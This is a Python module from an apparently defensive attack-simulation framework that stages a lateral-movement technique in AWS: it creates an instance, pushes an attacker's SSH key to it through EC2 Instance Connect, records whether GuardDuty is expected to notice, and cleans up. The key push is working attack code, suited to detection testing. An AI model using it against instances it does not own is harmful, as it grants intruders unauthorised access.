"""Push an SSH key to an instance for a minute, and log in."""

from bastide.attack import scenery
from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="An SSH key is pushed to an instance",
    mitre=("T1021.008", "T1098.004"),
    tactic="lateral-movement",
    detectors=("GuardDuty PrivilegeEscalation:IAMUser/AnomalousBehavior",),
    expected=Recorded("connecting to instances this way is ordinary work of an administrator"),
    source="EC2 Instance Connect API Reference, SendSSHPublicKey",
)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA intruder"


def prepare(stage: Stage) -> Scene:
    """An instance."""
    network = scenery.network(stage)
    return {"network": network, "instance": scenery.instance(stage, network.subnet)}


def attack(stage: Stage, scene: Scene) -> None:
    """Push the key."""
    made = (
        stage.attacker()
        .client("ec2-instance-connect")
        .send_ssh_public_key(InstanceId=scene["instance"], InstanceOSUser="ec2-user", SSHPublicKey=KEY)
    )
    scene["pushed"] = made["Success"]


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The service says that the instance has it: no call reads it back."""
    return scene.get("pushed") is True


def clean_up(stage: Stage, scene: Scene) -> None:
    """Terminate the instance."""
    scenery.drop_instances(stage, instance_id=scene["instance"])
    scenery.drop_network(stage, scene["network"])
